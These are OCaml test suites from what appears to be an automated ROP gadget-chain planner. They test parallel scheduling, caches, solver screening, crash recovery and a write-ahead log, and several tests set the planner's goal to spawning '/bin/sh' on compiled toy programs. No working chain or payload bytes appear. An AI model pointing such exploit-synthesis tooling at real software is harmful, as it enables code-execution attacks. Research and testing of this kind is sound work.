    deps;
  S.Dag.run ~jobs dag;
  (deps, List.rev !order)

let qcheck_dag_completes =
  QCheck2.Test.make ~count:120 ~name:"random DAGs complete at 1-8 workers"
    dag_shape_gen (fun (jobs, shape) ->
      let deps, order = run_shape ~jobs shape in
      List.length order = List.length deps
      && List.sort_uniq compare order
         = List.init (List.length deps) (fun i -> i))

let qcheck_dag_respects_edges =
  QCheck2.Test.make ~count:120
    ~name:"no node runs before its predecessors" dag_shape_gen
    (fun (jobs, shape) ->
      let deps, order = run_shape ~jobs shape in
      let pos = Hashtbl.create 16 in
      List.iteri (fun at i -> Hashtbl.replace pos i at) order;
      List.for_all
        (fun (i, ds) ->
          List.for_all
            (fun d -> Hashtbl.find pos d < Hashtbl.find pos i)
            ds)
        (List.mapi (fun i ds -> (i, ds)) deps))

let qcheck_deque_steal_order =
  (* thief-FIFO: stealing k times from a freshly pushed deque yields
     the oldest k items in push order; the owner's pops then resume
     LIFO on what's left *)
  QCheck2.Test.make ~count:200 ~name:"deque owner-LIFO / thief-FIFO"
    QCheck2.Gen.(pair (int_range 0 20) (int_range 0 20))
    (fun (npush, nsteal) ->
      let d = S.Deque.create () in
      for i = 1 to npush do
        S.Deque.push d i
      done;
      let stolen = List.init (min nsteal npush) (fun _ -> S.Deque.steal d) in
      let expected_stolen =
        List.init (min nsteal npush) (fun i -> Some (i + 1))
      in
      let rec pops acc =
        match S.Deque.pop d with
        | Some x -> pops (x :: acc)
        | None -> List.rev acc
      in
      let popped = pops [] in
      let expected_popped =
        (* remaining items, newest first *)
        List.init (npush - min nsteal npush) (fun i -> npush - i)
      in
      stolen = expected_stolen && popped = expected_popped)

(* ----- shared-state stress from 4 domains ----- *)

let test_incr_table_stress () =
  E.reset_world ();
  Gp_core.Incr.set_enabled true;
  let nkeys = 50 in
  let key i = Printf.sprintf "stress-key-%02d" i in
  let value i : Gp_core.Incr.value = ([], Some (Printf.sprintf "v%02d" i)) in
  let domains =
    List.init 4 (fun w ->
        Domain.spawn (fun () ->
            (* every domain walks ALL keys, offset so lookups and
               inserts of the same key collide across domains *)
            for round = 0 to 40 do
              for j = 0 to nkeys - 1 do
                let i = (j + (w * 13) + round) mod nkeys in
                match Gp_core.Incr.find (key i) with
                | Some v -> assert (v = value i)
                | None -> Gp_core.Incr.add (key i) (value i)
              done
            done))
  in
  List.iter Domain.join domains;
  Alcotest.(check int) "no lost updates, no phantom keys" nkeys
    (Gp_core.Incr.size ());
  for i = 0 to nkeys - 1 do
    match Gp_core.Incr.find (key i) with
    | Some v -> Alcotest.(check bool) (key i) true (v = value i)
    | None -> Alcotest.fail (key i ^ " lost")
  done;
  E.reset_world ()

let test_cache_stress () =
  (* [Gp_smt.Cache] is the implementation under every solver memo
     (check/equal/pool); hammer a fresh instance the way planner
     workers hammer those *)
  let c : (int, int) Gp_smt.Cache.t = Gp_smt.Cache.create () in
  let nkeys = 100 in
  let per_domain = 5000 in
  let computed = Atomic.make 0 in
  let domains =
    List.init 4 (fun w ->
        Domain.spawn (fun () ->
            for k = 0 to per_domain - 1 do
              let key = (k + (w * 31)) mod nkeys in
              let v =
                Gp_smt.Cache.find_or_add c key (fun () ->
                    Atomic.incr computed;
                    key * 7)
              in
              assert (v = key * 7)
            done))
  in
  List.iter Domain.join domains;
  Alcotest.(check int) "every key present once" nkeys
    (Gp_smt.Cache.length c);
  (* counter determinism: every lookup was either a hit or a miss *)
  Alcotest.(check int) "hits + misses = lookups" (4 * per_domain)
    (Gp_smt.Cache.hits c + Gp_smt.Cache.misses c);
  (* first-write-wins may duplicate a compute under a race, but never
     more than once per racing domain *)
  Alcotest.(check bool) "computes bounded" true
    (Atomic.get computed >= nkeys && Atomic.get computed <= 4 * nkeys)

(* ----- the acceptance differential ----- *)

let goal = Gp_core.Goal.Execve "/bin/sh"

let sweep_payloads outcomes =
  List.map
    (fun (c : E.resume_payload R.cell_outcome) ->
      match c.R.c_result with
      | Ok p -> (c.R.c_key, E.resume_payload_encode p)
      | Error f -> (c.R.c_key, "FAIL:" ^ Gp_core.Fail.label f))
    outcomes

let sequential_reference cells =
  E.reset_world ();
  let outcomes, _ =
    R.run_corpus ~encode:E.resume_payload_encode
      ~decode:E.resume_payload_decode (E.sweep_cells_sequential cells)
  in
  sweep_payloads outcomes

let scheduled ~jobs cells =
  E.reset_world ();
  let outcomes, report =
    S.run_cells ~encode:E.resume_payload_encode
      ~decode:E.resume_payload_decode ~jobs cells
  in
  (sweep_payloads outcomes, report)

(* The DAG at jobs 1, 2, and JOBS equals the sequential cell loop byte
   for byte over the full quick survey corpus (4 programs x 3 configs,
   tigress included). *)
let test_differential_sweep () =
  let cells = E.sweep_cell_steps ~quick:true ~goal () in
  let reference = sequential_reference cells in
  Alcotest.(check int) "full quick grid" 12 (List.length reference);
  Alcotest.(check bool) "no failed cells in reference" true
    (List.for_all
       (fun (_, p) -> not (String.length p >= 5 && String.sub p 0 5 = "FAIL:"))
       reference);
  List.iter
    (fun j ->
      let got, report = scheduled ~jobs:j cells in
      Alcotest.(check bool)
        (Printf.sprintf "jobs %d: byte-identical to sequential loop" j)
        true (got = reference);
      Alcotest.(check int)
        (Printf.sprintf "jobs %d: everything computed" j)
        (List.length reference) report.R.r_computed)
    (List.sort_uniq compare [ 1; 2; jobs_under_test ])

(* Same differential under 10% keyed fault injection: Faultsim's
   decode/solver/mem schedules are keyed on content, not streamed, so
   the injected fault set — and therefore every payload — must be
   interleaving-invariant too. *)
let test_differential_under_injection () =
  let cells =
    E.sweep_cell_steps
      ~entries:[ Gp_corpus.Programs.find "fibonacci" ]
      ~quick:true ~goal ()
  in
  let cfg = Gp_harness.Faultsim.uniform ~seed:11 0.1 in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let reference = sequential_reference cells in
      Alcotest.(check int) "one program, all configs" 3
        (List.length reference);
      let got, report = scheduled ~jobs:jobs_under_test cells in
      Alcotest.(check bool) "injected sweep byte-identical" true
        (got = reference);
      Alcotest.(check int) "every cell terminated" 3
        (report.R.r_computed + List.length report.R.r_failed))

(* ----- crash/resume composed with the scheduler ----- *)

let crash_cells () =
  E.sweep_cell_steps
    ~entries:[ Gp_corpus.Programs.find "fibonacci" ]
    ~configs:
      (List.filter
         (fun (n, _) -> n = "original" || n = "tigress")
         Gp_harness.Workspace.obf_configs)
    ~quick:true ~goal ()

let check_sched_crash_resume jobs () =
  (* uninterrupted references: the sequential manifest path (PR-6
     machinery) and the scheduled one must already agree *)
  let seqdir = tmp_dir () in
  E.reset_world ();
  let so, _, _ =
    E.resume_sweep ~dir:seqdir ~resume:false
      (E.sweep_cells_sequential (crash_cells ()))
  in
  let reference = sweep_payloads so in
  E.rm_rf seqdir;
  Alcotest.(check int) "reference covers the grid" 2 (List.length reference);
  let refdir = tmp_dir () in
  E.reset_world ();
  let ro, _, _ = E.sched_sweep ~dir:refdir ~resume:false ~jobs (crash_cells ()) in
  E.rm_rf refdir;
  Alcotest.(check bool) "scheduled == sequential, uninterrupted" true
    (sweep_payloads ro = reference);
  List.iter
    (fun (point, hits) ->
      let dir = tmp_dir () in
      E.reset_world ();
      let crashed =
        match
          Gp_harness.Faultsim.with_crash_at ~hits ~point (fun () ->
              E.sched_sweep ~dir ~resume:false ~jobs (crash_cells ()))
        with
        | Ok _ -> false
        | Error p ->
          Alcotest.(check string) "died at the armed point" point p;
          true
      in
      Alcotest.(check bool) (point ^ ": fuse fired") true crashed;
      E.reset_world ();
      let ro2, report, _ =
        E.sched_sweep ~dir ~resume:true ~jobs (crash_cells ())
      in
      Alcotest.(check bool)
        (Printf.sprintf "%s (jobs %d): resume == uninterrupted" point jobs)
        true
        (sweep_payloads ro2 = reference);
      Alcotest.(check int)
        (point ^ ": resume covers everything")
        2
        (report.R.r_resumed + report.R.r_computed);
      E.rm_rf dir)
    [ ("wal-append", 5); ("mid-stage", 1) ]

let suite =
  [ Alcotest.test_case "deque owner-LIFO thief-FIFO" `Quick
      test_deque_owner_lifo_thief_fifo;
    Alcotest.test_case "deque concurrent conservation" `Quick
      test_deque_concurrent_conservation;
    Alcotest.test_case "dag diamond" `Quick test_dag_diamond;
    Alcotest.test_case "dag dynamic growth" `Quick test_dag_dynamic_growth;
    Alcotest.test_case "dag failure aborts and joins" `Quick
      test_dag_failure_aborts_and_joins;
    QCheck_alcotest.to_alcotest qcheck_dag_completes;
    QCheck_alcotest.to_alcotest qcheck_dag_respects_edges;
    QCheck_alcotest.to_alcotest qcheck_deque_steal_order;
    Alcotest.test_case "Incr table stress (4 domains)" `Quick
      test_incr_table_stress;
    Alcotest.test_case "solver-memo cache stress (4 domains)" `Quick
      test_cache_stress;
    Alcotest.test_case
      (Printf.sprintf "differential sweep (jobs %d)" jobs_under_test)
      `Slow test_differential_sweep;
    Alcotest.test_case "differential under 10% injection" `Slow
      test_differential_under_injection;
    Alcotest.test_case
      (Printf.sprintf "crash/resume with scheduler (jobs %d)" jobs_under_test)
      `Slow
      (check_sched_crash_resume jobs_under_test) ]
