(* Test entry point: one alcotest suite per library. *)

let () =
  Alcotest.run "gadget_planner"
    [ ("util", Test_util.suite);
      ("x86", Test_x86.suite);
      ("smt", Test_smt.suite);
      ("minic", Test_minic.suite);
      ("ir", Test_ir.suite);
      ("codegen", Test_codegen.suite);
      ("emu", Test_emu.suite);
      ("obf", Test_obf.suite);
      ("symx", Test_symx.suite);
      ("gadget", Test_gadget.suite);
      ("planner", Test_planner.suite);
      ("payload", Test_payload.suite);
      ("baselines", Test_baselines.suite);
      ("corpus", Test_corpus.suite);
      ("harness", Test_harness.suite);
      ("resilience", Test_resilience.suite);
      ("integration", Test_integration.suite) ]
