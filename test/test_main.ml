(* Test entry point: one alcotest run per library, aggregated.

   Each suite runs with [~and_exit:false] so a failure in one library
   doesn't hide the others; a per-suite PASS/FAIL summary is printed at
   the end and the process exits nonzero if any suite failed.

   SUITES=name1,name2 restricts the run to the named suites (used by
   `make check-plan-par` to sweep one suite across job counts without
   paying for the whole matrix). *)

let suites =
  [ ("util", Test_util.suite);
    ("x86", Test_x86.suite);
    ("smt", Test_smt.suite);
    ("minic", Test_minic.suite);
    ("ir", Test_ir.suite);
    ("codegen", Test_codegen.suite);
    ("emu", Test_emu.suite);
    ("obf", Test_obf.suite);
    ("symx", Test_symx.suite);
    ("gadget", Test_gadget.suite);
    ("planner", Test_planner.suite);
    ("payload", Test_payload.suite);
    ("baselines", Test_baselines.suite);
    ("corpus", Test_corpus.suite);
    ("harness", Test_harness.suite);
    ("runner", Test_runner.suite);
    ("resilience", Test_resilience.suite);
    ("par", Test_par.suite);
    ("sweep", Test_sweep.suite);
    ("plan_par", Test_plan_par.suite);
    ("incr", Test_incr.suite);
    ("screen", Test_screen.suite);
    ("serve", Test_serve.suite);
    ("compose", Test_compose.suite);
    ("fp", Test_fp.suite);
    ("integration", Test_integration.suite) ]

let () =
  let suites =
    match Sys.getenv_opt "SUITES" with
    | None | Some "" -> suites
    | Some names ->
      let wanted = String.split_on_char ',' names in
      let unknown =
        List.filter (fun n -> not (List.mem_assoc n suites)) wanted
      in
      if unknown <> [] then begin
        Printf.eprintf "unknown suite(s) in SUITES: %s\n"
          (String.concat ", " unknown);
        exit 2
      end;
      List.filter (fun (name, _) -> List.mem name wanted) suites
  in
  let results =
    List.map
      (fun (name, suite) ->
        let ok =
          match
            Alcotest.run ~and_exit:false ("gadget_planner." ^ name)
              [ (name, suite) ]
          with
          | () -> true
          | exception Alcotest.Test_error -> false
        in
        (name, ok))
      suites
  in
  print_newline ();
  List.iter
    (fun (name, ok) ->
      Printf.printf "[suite] %-12s %s\n" name (if ok then "PASS" else "FAIL"))
    results;
  let failed = List.filter (fun (_, ok) -> not ok) results in
  if failed <> [] then begin
    Printf.printf "%d of %d suites failed\n" (List.length failed)
      (List.length results);
    exit 1
  end
  else Printf.printf "all %d suites passed\n" (List.length results)
