(* Differential and determinism tests for the tiered solver screening
   front-end (DESIGN.md §12).  Three angles:

   - differential: the full pipeline with screening ENABLED is
     bit-identical to the pipeline with screening DISABLED, across the
     21-cell survey (seven programs x three obfuscation configs) at
     jobs 1 and at jobs 4 — pools, plan counts, validated-chain sets,
     quarantine ledgers, budget accounting.  [solver_unknowns] and the
     cache counters are deliberately absent from the fingerprint: a
     screened refutation replaces a verdict the fall-through path could
     only reach as Unknown-after-search, so the Unknown tally is
     exactly what the ablation toggles, and hit rates are cache
     temperature;
   - counter determinism: the screening tallies count per query
     answered, BEFORE any memo lookup, so they must be invariant
     across job counts (the same discipline as [solver_unknowns]) —
     and the cache hit+miss SUM, one increment per memoizable query,
     must be invariant too even though the hit/miss split is
     temperature;
   - fault injection: a 10% keyed chaos sweep with screening on stays
     deterministic across jobs 1/2/4 — screening answers some queries
     before the chaos hook would fire, but identically so at every job
     count. *)

(* The same 21-cell survey test_par sweeps. *)
let diff_programs =
  [ "fibonacci"; "gcd_lcm"; "bubble_sort"; "string_reverse";
    "crc_check"; "bitcount"; "prime_sieve" ]

(* Lighter than test_par's config: this suite runs each cell FOUR times
   (off/on x jobs 1/4). *)
let planner_config =
  { Gp_core.Planner.max_plans = 2; node_budget = 600; time_budget = 10.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

let with_screen enabled f =
  Gp_smt.Solver.set_screen_enabled enabled;
  Fun.protect
    ~finally:(fun () -> Gp_smt.Solver.set_screen_enabled true)
    f

(* Everything in the outcome that must not depend on whether screening
   is enabled (or on the job count).  See the header for what is
   deliberately excluded. *)
type fingerprint = {
  f_extracted : int;
  f_deduped : int;
  f_pool_size : int;
  f_plans_found : int;
  f_chains : string list;            (* sorted chain keys *)
  f_quarantined : (string * int) list;
  f_budget_hits : string list;
  f_plan_counters : int * int * int * int * int;
  f_validate : int * int;
  f_rungs : string list;
}

let fingerprint (o : Gp_core.Api.outcome) =
  let s = o.Gp_core.Api.stats in
  { f_extracted = s.Gp_core.Api.extracted;
    f_deduped = s.Gp_core.Api.deduped;
    f_pool_size = s.Gp_core.Api.pool_size;
    f_plans_found = s.Gp_core.Api.plans_found;
    f_chains =
      List.sort compare
        (List.map Gp_core.Payload.chain_key o.Gp_core.Api.chains);
    f_quarantined = s.Gp_core.Api.quarantined;
    f_budget_hits = s.Gp_core.Api.budget_hits;
    f_plan_counters =
      ( s.Gp_core.Api.plan_expanded, s.Gp_core.Api.plan_peak_queue,
        s.Gp_core.Api.plan_inst_hits, s.Gp_core.Api.plan_cand_hits,
        s.Gp_core.Api.plan_discarded );
    f_validate = (s.Gp_core.Api.validate_faults, s.Gp_core.Api.validate_timeouts);
    f_rungs = List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs }

let run_once ~jobs image =
  Gp_core.Gadget.reset_ids ();
  Gp_core.Api.run ~planner_config ~jobs image (Gp_core.Goal.Execve "/bin/sh")

let test_differential () =
  List.iter
    (fun pname ->
      let entry = Gp_corpus.Programs.find pname in
      List.iter
        (fun (cname, cfg) ->
          let image =
            Gp_codegen.Pipeline.compile
              ~transform:(Gp_obf.Obf.transform cfg)
              entry.Gp_corpus.Programs.source
          in
          let cell = Printf.sprintf "%s/%s" pname cname in
          let off1 = with_screen false (fun () -> fingerprint (run_once ~jobs:1 image)) in
          let on1 = with_screen true (fun () -> fingerprint (run_once ~jobs:1 image)) in
          let off4 = with_screen false (fun () -> fingerprint (run_once ~jobs:4 image)) in
          let on4 = with_screen true (fun () -> fingerprint (run_once ~jobs:4 image)) in
          Alcotest.(check bool) (cell ^ " jobs=1 identical") true (off1 = on1);
          Alcotest.(check bool) (cell ^ " jobs=4 identical") true (off4 = on4);
          Alcotest.(check bool) (cell ^ " jobs invariant") true (on1 = on4))
        Gp_harness.Workspace.obf_configs)
    diff_programs

(* ----- counter determinism under Par ----- *)

let compile_cell cfg pname =
  Gp_codegen.Pipeline.compile
    ~transform:(Gp_obf.Obf.transform cfg)
    (Gp_corpus.Programs.find pname).Gp_corpus.Programs.source

(* Runs with the §17 fingerprint index DISABLED: with fingerprints on,
   subsumption and the planner answer every probe this small cell
   produces before the solver sees a query, so the screen tiers have
   nothing left to fire on (test_fp pins the counters of that regime —
   here we pin the §12 contract in isolation). *)
let test_counters_deterministic () =
  let image = compile_cell Gp_obf.Obf.tigress "fibonacci" in
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let snapshot jobs =
    Gp_core.Gadget.reset_ids ();
    Gp_smt.Solver.reset_screen ();
    Gp_smt.Cache.reset Gp_smt.Solver.memo;
    Gp_smt.Cache.reset Gp_smt.Solver.equal_memo;
    Gp_smt.Cache.reset Gp_smt.Solver.pool_memo;
    let o = Gp_core.Api.run ~planner_config ~jobs image goal in
    let st = o.Gp_core.Api.stats in
    ( ( st.Gp_core.Api.screen_refuted,
        st.Gp_core.Api.screen_decided,
        st.Gp_core.Api.concrete_refuted ),
      (* the SPLIT is temperature, the SUM is one bump per memoizable
         query answered — deterministic at any job count *)
      st.Gp_core.Api.cache_hits + st.Gp_core.Api.cache_misses,
      st.Gp_core.Api.solver_unknowns )
  in
  let s1, s2, s4 =
    Gp_smt.Fpeval.set_enabled false;
    Fun.protect
      ~finally:(fun () -> Gp_smt.Fpeval.set_enabled true)
      (fun () -> (snapshot 1, snapshot 2, snapshot 4))
  in
  Alcotest.(check bool) "jobs=2 counters" true (s2 = s1);
  Alcotest.(check bool) "jobs=4 counters" true (s4 = s1);
  let (sr, sd, cr), _, _ = s1 in
  Alcotest.(check bool) "tiers fire on an obfuscated cell" true
    (sr + sd + cr > 0)

(* ----- fault injection with screening on ----- *)

let test_faults_deterministic_with_screening () =
  let image = compile_cell Gp_obf.Obf.tigress "fibonacci" in
  Alcotest.(check bool) "screening on" true (Gp_smt.Solver.screen_enabled ());
  let cfg = Gp_harness.Faultsim.uniform ~seed:17 0.1 in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let sweep jobs =
        Gp_core.Gadget.reset_ids ();
        Gp_smt.Solver.reset_screen ();
        let gs, st = Gp_core.Extract.harvest_r ~jobs image in
        let minimal, _ = Gp_core.Subsume.minimize ~jobs gs in
        let sr, sd, cr, _elim = Gp_smt.Solver.screen_stats () in
        ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr) minimal,
          st.Gp_core.Extract.h_quarantined,
          (sr, sd, cr) )
      in
      let s1 = sweep 1 in
      Alcotest.(check bool) "jobs=2 sweep" true (sweep 2 = s1);
      Alcotest.(check bool) "jobs=4 sweep" true (sweep 4 = s1);
      let _, tally, _ = s1 in
      (* the sweep must actually be injecting *)
      match List.assoc_opt "decode" tally with
      | Some n when n > 0 -> ()
      | _ -> Alcotest.fail "no decode faults quarantined at 10%")

let suite =
  [ Alcotest.test_case "differential screen on vs off (21 cells)" `Slow
      test_differential;
    Alcotest.test_case "screening counters deterministic" `Quick
      test_counters_deterministic;
    Alcotest.test_case "faults deterministic with screening" `Quick
      test_faults_deterministic_with_screening ]
