(* Tests for Gp_util: RNG determinism, hex helpers, image container. *)

let test_rng_deterministic () =
  let a = Gp_util.Rng.create 42 in
  let b = Gp_util.Rng.create 42 in
  for _ = 1 to 100 do
    Alcotest.(check int64) "same stream" (Gp_util.Rng.next_int64 a)
      (Gp_util.Rng.next_int64 b)
  done

let test_rng_seeds_differ () =
  let a = Gp_util.Rng.create 1 in
  let b = Gp_util.Rng.create 2 in
  Alcotest.(check bool) "different seeds differ" true
    (Gp_util.Rng.next_int64 a <> Gp_util.Rng.next_int64 b)

let test_rng_int_bounds () =
  let rng = Gp_util.Rng.create 7 in
  for _ = 1 to 1000 do
    let v = Gp_util.Rng.int rng 17 in
    Alcotest.(check bool) "in range" true (v >= 0 && v < 17)
  done

let test_rng_choose () =
  let rng = Gp_util.Rng.create 7 in
  let l = [ 1; 2; 3 ] in
  for _ = 1 to 50 do
    Alcotest.(check bool) "member" true (List.mem (Gp_util.Rng.choose rng l) l)
  done

let test_rng_shuffle_permutes () =
  let rng = Gp_util.Rng.create 3 in
  let l = List.init 20 Fun.id in
  let s = Gp_util.Rng.shuffle rng l in
  Alcotest.(check (list int)) "same multiset" l (List.sort compare s)

let test_rng_split_independent () =
  let a = Gp_util.Rng.create 9 in
  let sub = Gp_util.Rng.split a in
  let v1 = Gp_util.Rng.next_int64 sub in
  (* same construction gives the same sub-stream *)
  let b = Gp_util.Rng.create 9 in
  let sub' = Gp_util.Rng.split b in
  Alcotest.(check int64) "split deterministic" v1 (Gp_util.Rng.next_int64 sub')

let test_hex_of_bytes () =
  Alcotest.(check string) "hex" "deadbeef"
    (Gp_util.Hex.of_bytes (Bytes.of_string "\xde\xad\xbe\xef"))

let test_hex_int64_le () =
  let b = Gp_util.Hex.int64_le 0x0102030405060708L in
  Alcotest.(check string) "little endian" "0807060504030201"
    (Gp_util.Hex.of_bytes b)

let mk_image () =
  Gp_util.Image.create ~entry:0x400000L
    ~code:(Bytes.of_string "\x90\xc3")
    ~data:(Bytes.of_string "hi\x00there\x00")
    ~symbols:
      [ { Gp_util.Image.sym_name = "f"; sym_addr = 0x400000L; sym_size = 2 } ]
    ()

let test_image_bounds () =
  let img = mk_image () in
  Alcotest.(check bool) "in code" true (Gp_util.Image.in_code img 0x400001L);
  Alcotest.(check bool) "not in code" false (Gp_util.Image.in_code img 0x400002L);
  Alcotest.(check bool) "in data" true (Gp_util.Image.in_data img 0x600000L);
  Alcotest.(check int) "code byte" 0x90 (Gp_util.Image.byte img 0x400000L);
  Alcotest.(check int) "data byte" (Char.code 'h') (Gp_util.Image.byte img 0x600000L)

let test_image_unmapped_raises () =
  let img = mk_image () in
  Alcotest.check_raises "unmapped"
    (Invalid_argument "Image.byte: address 0x500000 unmapped") (fun () ->
      ignore (Gp_util.Image.byte img 0x500000L))

let test_image_symbols () =
  let img = mk_image () in
  Alcotest.(check int64) "symbol addr" 0x400000L (Gp_util.Image.symbol_addr img "f");
  Alcotest.(check bool) "symbol_at" true
    (match Gp_util.Image.symbol_at img 0x400001L with
     | Some s -> s.Gp_util.Image.sym_name = "f"
     | None -> false)

let test_image_cstring () =
  let img = mk_image () in
  Alcotest.(check string) "first" "hi" (Gp_util.Image.read_cstring img 0x600000L);
  Alcotest.(check string) "second" "there"
    (Gp_util.Image.read_cstring img 0x600003L)

(* ----- Store: advisory locks and the write-ahead log ----- *)

let store_schema = 7

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-util-test-%d-%d" (Unix.getpid ()) !n)
    in
    (try Sys.remove d with Sys_error _ -> ());
    Gp_util.Store.mkdir_p d;
    d

let read_file path =
  let ic = open_in_bin path in
  let s = really_input_string ic (in_channel_length ic) in
  close_in ic;
  s

(* Deliberately awkward payloads: empties, embedded NULs and
   newlines, a record-length-sized blob. *)
let wal_records =
  [ ("summaries", "k1", "v1");
    ("summaries", "", "");
    ("memos", "key\x00with\nnoise", String.make 300 '\xab');
    ("memos", "k2", "last") ]

let wal_write dir records =
  let path = Gp_util.Store.Wal.path_of (Filename.concat dir "s") in
  (match Gp_util.Store.Wal.open_append ~schema:store_schema path with
   | Ok (w, _) ->
     List.iter
       (fun (s, k, v) ->
         Gp_util.Store.Wal.append w ~section:s ~key:k ~value:v)
       records;
     Gp_util.Store.Wal.close w
   | Error e -> Alcotest.fail ("open_append: " ^ e));
  path

let rec is_prefix xs ys =
  match (xs, ys) with
  | [], _ -> true
  | x :: xs', y :: ys' -> x = y && is_prefix xs' ys'
  | _ :: _, [] -> false

let test_wal_roundtrip () =
  let dir = tmp_dir () in
  let path = wal_write dir wal_records in
  (match Gp_util.Store.Wal.read ~schema:store_schema path with
   | Ok r ->
     Alcotest.(check bool) "entries back in order" true
       (r.Gp_util.Store.Wal.entries = wal_records);
     Alcotest.(check int) "clean tail" 0 r.Gp_util.Store.Wal.torn_bytes
   | Error e ->
     Alcotest.fail ("read: " ^ Gp_util.Store.error_reason e));
  Sys.remove path

(* The recovery contract, exhaustively: chopping the journal at ANY
   byte boundary yields the valid record prefix — never an exception,
   never a reordered or invented entry. *)
let test_wal_truncation_every_byte () =
  let dir = tmp_dir () in
  let path = wal_write dir wal_records in
  let full = read_file path in
  let n = String.length full in
  for k = 0 to n do
    match Gp_util.Store.Wal.decode ~schema:store_schema (String.sub full 0 k) with
    | Ok r ->
      Alcotest.(check bool)
        (Printf.sprintf "prefix at %d/%d bytes" k n)
        true
        (is_prefix r.Gp_util.Store.Wal.entries wal_records);
      Alcotest.(check bool)
        (Printf.sprintf "accounting at %d" k)
        true
        (r.Gp_util.Store.Wal.valid_bytes + r.Gp_util.Store.Wal.torn_bytes = k);
      if k = n then begin
        Alcotest.(check bool) "full file replays all" true
          (r.Gp_util.Store.Wal.entries = wal_records);
        Alcotest.(check int) "full file clean" 0 r.Gp_util.Store.Wal.torn_bytes
      end
    | Error e ->
      Alcotest.fail
        (Printf.sprintf "truncation at %d raised %s" k
           (Gp_util.Store.error_reason e))
  done;
  Sys.remove path

let prop_wal_truncation (records, cut) =
  let dir = tmp_dir () in
  let path = wal_write dir records in
  let full = read_file path in
  let k = cut mod (String.length full + 1) in
  let ok =
    match Gp_util.Store.Wal.decode ~schema:store_schema (String.sub full 0 k) with
    | Ok r ->
      is_prefix r.Gp_util.Store.Wal.entries records
      && r.Gp_util.Store.Wal.valid_bytes + r.Gp_util.Store.Wal.torn_bytes = k
    | Error _ -> false
  in
  Sys.remove path;
  ok

(* Single flipped bytes anywhere in the file: recovery returns a
   prefix of the true entries (the per-record checksum stops the walk)
   or rejects the file outright — never raises, never a wrong entry. *)
let test_wal_bitflip_prefix_or_reject () =
  let dir = tmp_dir () in
  let path = wal_write dir wal_records in
  let full = read_file path in
  let n = String.length full in
  List.iter
    (fun i ->
      let i = i mod n in
      let b = Bytes.of_string full in
      Bytes.set b i (Char.chr (Char.code (Bytes.get b i) lxor 0x41));
      match Gp_util.Store.Wal.decode ~schema:store_schema (Bytes.to_string b) with
      | Ok r ->
        Alcotest.(check bool)
          (Printf.sprintf "flip at %d yields a true prefix" i)
          true
          (is_prefix r.Gp_util.Store.Wal.entries wal_records)
      | Error _ -> ())
    [ 0; 3; 4; 11; 19; 20; 25; 40; n / 2; n - 300; n - 20; n - 1 ];
  Sys.remove path

let test_wal_open_after_torn () =
  let dir = tmp_dir () in
  let path = wal_write dir wal_records in
  let n = String.length (read_file path) in
  (* tear the last record mid-body *)
  let fd = Unix.openfile path [ Unix.O_WRONLY ] 0o644 in
  Unix.ftruncate fd (n - 2);
  Unix.close fd;
  (match Gp_util.Store.Wal.open_append ~schema:store_schema path with
   | Error e -> Alcotest.fail ("open after tear: " ^ e)
   | Ok (w, replay) ->
     Alcotest.(check int) "valid prefix survives" 3
       (List.length replay.Gp_util.Store.Wal.entries);
     Alcotest.(check bool) "tear measured" true
       (replay.Gp_util.Store.Wal.torn_bytes > 0);
     Gp_util.Store.Wal.append w ~section:"memos" ~key:"k3" ~value:"appended";
     Gp_util.Store.Wal.close w);
  (match Gp_util.Store.Wal.read ~schema:store_schema path with
   | Ok r ->
     Alcotest.(check bool) "append lands after the truncated tail" true
       (r.Gp_util.Store.Wal.entries
      = [ ("summaries", "k1", "v1"); ("summaries", "", "");
          ("memos", "key\x00with\nnoise", String.make 300 '\xab');
          ("memos", "k3", "appended") ])
   | Error e -> Alcotest.fail ("reread: " ^ Gp_util.Store.error_reason e));
  Sys.remove path

let test_wal_foreign_rejected () =
  let dir = tmp_dir () in
  let path = Filename.concat dir "foreign.wal" in
  let oc = open_out_bin path in
  output_string oc "NOPE and then some bytes";
  close_out oc;
  (match Gp_util.Store.Wal.read ~schema:store_schema path with
   | Error (Gp_util.Store.Corrupt _) -> ()
   | Ok _ -> Alcotest.fail "foreign magic must not replay"
   | Error e -> Alcotest.fail ("wrong class: " ^ Gp_util.Store.error_reason e));
  (match Gp_util.Store.Wal.open_append ~schema:store_schema path with
   | Error _ -> ()
   | Ok _ -> Alcotest.fail "open_append must refuse a foreign file");
  (* wrong schema version: stale, not corrupt *)
  let path2 = wal_write dir [ ("s", "k", "v") ] in
  (match Gp_util.Store.Wal.read ~schema:(store_schema + 1) path2 with
   | Error (Gp_util.Store.Stale _) -> ()
   | _ -> Alcotest.fail "schema bump must read as stale");
  Sys.remove path;
  Sys.remove path2

let test_store_lock_exclusion () =
  let dir = tmp_dir () in
  match Gp_util.Store.try_lock dir with
  | Error e -> Alcotest.fail ("first lock: " ^ e)
  | Ok l ->
    (match Gp_util.Store.try_lock dir with
     | Ok _ -> Alcotest.fail "second writer must be refused"
     | Error _ -> ());
    (* distinct lock names don't conflict *)
    (match Gp_util.Store.try_lock ~name:".other.lock" dir with
     | Ok l2 -> Gp_util.Store.unlock l2
     | Error e -> Alcotest.fail ("distinct name: " ^ e));
    Gp_util.Store.unlock l;
    (match Gp_util.Store.try_lock dir with
     | Ok l3 -> Gp_util.Store.unlock l3
     | Error e -> Alcotest.fail ("relock after unlock: " ^ e))

(* Par.run exception hardening: a task raising must re-raise the
   LOWEST-indexed failure after every domain joined, leave no sibling
   result slot unset for tasks that ran, and leave no domain behind —
   checked by immediately reusing the pool, many times over. *)
let test_par_run_exception_safety () =
  let n = 16 in
  for _ = 1 to 50 do
    let executed = Array.make n false in
    let tasks =
      Array.init n (fun i () ->
          executed.(i) <- true;
          if i = 5 || i = 11 then failwith (Printf.sprintf "task-%d" i);
          i)
    in
    (match Gp_util.Par.run ~jobs:4 tasks with
     | _ -> Alcotest.fail "a failed task must re-raise"
     | exception Failure msg ->
       Alcotest.(check string) "lowest-indexed failure wins" "task-5" msg);
    Alcotest.(check bool) "tasks before the failure all ran" true
      (executed.(0) && executed.(1) && executed.(2) && executed.(3)
       && executed.(4))
  done;
